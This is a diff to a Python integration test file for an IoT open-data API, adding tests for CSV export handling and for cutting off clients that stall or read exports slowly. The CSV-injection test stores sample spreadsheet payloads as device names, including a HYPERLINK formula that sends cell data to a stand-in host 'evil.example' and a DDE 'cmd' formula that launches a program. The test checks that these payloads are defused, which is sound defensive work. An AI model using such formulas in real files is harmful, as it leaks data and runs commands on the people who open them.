@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import threading
 import time
 import tracemalloc
 from collections import defaultdict
@@ -12,6 +13,7 @@ from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
+import anyio
 import psycopg
 import pytest
 from fastapi import FastAPI
@@ -21,9 +23,9 @@ from ingest.codecs.registry import CodecRegistry
 from ingest.registry import seed_zones
 from ioc_api.app import create_app
 from ioc_core.catalogue import DeviceCatalogue
-from ioc_core.settings import DatabaseSettings, OpenDataSettings
+from ioc_core.settings import ApiSettings, DatabaseSettings, OpenDataSettings
 from ioc_core.zones import load_default_zones
-from tests.api_support import HAI_CHAU, SON_TRA, device, ingest, key, lpp
+from tests.api_support import HAI_CHAU, SON_TRA, Raw, device, ingest, key, lpp, raw_request
 
 pytestmark = pytest.mark.integration
 
@@ -50,12 +52,12 @@ PUBLISHED = {PUBLIC_HC, PUBLIC_WARD, PUBLIC_ST, AIR}
 SECRET = "s3cret"
 
 
-def _app(db_url: str, **open_data: Any) -> FastAPI:
+def _app(db_url: str, api: ApiSettings | None = None, **open_data: Any) -> FastAPI:
     with psycopg.connect(db_url, autocommit=True) as conn:
         seed_zones(conn, load_default_zones())
     catalogue = DeviceCatalogue.of((i.id, i.models) for i in CodecRegistry.discover().infos())
     limits = {"open_rate_per_minute": 60_000, "open_rate_burst": 10_000, **open_data}
-    return create_app(DatabaseSettings(database_url=db_url), catalogue=catalogue,  # type: ignore[arg-type]
+    return create_app(DatabaseSettings(database_url=db_url), api, catalogue=catalogue,  # type: ignore[arg-type]
                       open_data=OpenDataSettings(**limits), background_poll_s=3600.0)
 
 
@@ -386,3 +388,69 @@ def test_a_large_export_streams_in_many_chunks_in_little_memory(client: TestClie
     with client.stream("GET", URL, headers=developer, params=params) as response:
         next(response.iter_raw())
     _settled(client.app)  # type: ignore[arg-type]
+
+
+FORMULAS = {PUBLIC_HC: '=HYPERLINK("http://evil.example/?"&A1,"click")', PUBLIC_WARD: "+1+cmd|' /C calc'!A0",
+            PUBLIC_ST: "-2+3", AIR: "@SUM(A1:A9)"}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_defused(client: TestClient, admin: dict[str, str],
+                                                       developer: dict[str, str], fleet: None) -> None:
+    """OWASP's CSV injection advice: a leading quote, and the cell quoted; JSON lines keep the names as they are."""
+    for eui, name in FORMULAS.items():
+        assert client.patch(f"/api/v1/devices/{eui}", headers=admin, json={"name": name}).status_code == 200
+    response = client.get(URL, headers=developer, params=SPAN)
+    names = {r["dev_eui"]: r["device"] for r in _csv(response)}
+    assert names == {eui: "'" + name for eui, name in FORMULAS.items()}
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in response.text
+    assert all(not line.split(",")[2].startswith(("=", "+", "-", "@")) for line in response.text.splitlines())
+    lines = _lines(client.get(URL, headers=developer, params={**SPAN, "format": "json"}))
+    assert {r["dev_eui"]: r["device"] for r in lines} == FORMULAS
+
+
+async def _stall(message: dict[str, Any]) -> None:
+    """A client that never reads: the server's send waits as on a full socket."""
+    if message["type"] == "http.response.body":
+        await anyio.sleep_forever()
+
+
+def test_clients_that_stop_reading_lose_their_exports_and_the_slots_come_back(db_url: str, fleet: None) -> None:
+    first, second, third = (key(db_url, f"dev-{n}", "developer") for n in "abc")
+    app = _app(db_url, ApiSettings(api_export_idle_timeout_s=1.0), open_exports_per_key=1, open_exports_max=2)
+    query = "&".join(f"{k}={v.replace('+', '%2B')}" for k, v in SPAN.items())
+    with TestClient(app) as client:
+        stalled: list[Raw] = []
+
+        def hold(headers: dict[str, str]) -> None:
+            stalled.append(raw_request(client, "GET", URL, query=query, send=_stall, limit_s=15,
+                                       headers={"authorization": headers["Authorization"]}))
+
+        holders = [threading.Thread(target=hold, args=(h,)) for h in (first, second)]
+        for t in holders:
+            t.start()
+        deadline = time.monotonic() + 5
+        while app.state.open_data.exports.running < 2:
+            assert time.monotonic() < deadline
+            time.sleep(0.01)
+        assert _error(client.get(URL, headers=third, params=SPAN), 429)  # both slots held by clients not reading
+        for t in holders:
+            t.join(20)
+        # Dropped after a second without reading (before: held for ever), with the connection and the slot.
+        assert [(r.status, r.answered) for r in stalled] == [(200, False), (200, False)]
+        _settled(app)
+        assert len(_csv(client.get(URL, headers=third, params=SPAN))) == len(PUBLISHED) * FRAMES * 2
+
+
+def test_an_export_read_too_slowly_is_cut_at_the_send_timeout(db_url: str, fleet: None) -> None:
+    developer = key(db_url, "dev-slow", "developer")
+    app = _app(db_url, ApiSettings(api_export_idle_timeout_s=10, api_export_send_timeout_s=0.5))
+
+    async def trickle(message: dict[str, Any]) -> None:
+        await anyio.sleep(0.3)  # each piece taken, but slowly
+
+    with TestClient(app) as client:
+        began = time.monotonic()
+        raw = raw_request(client, "GET", URL, send=trickle, limit_s=15,
+                          headers={"authorization": developer["Authorization"]})
+        assert raw.status == 200 and not raw.answered and time.monotonic() - began < 5
+        _settled(app)
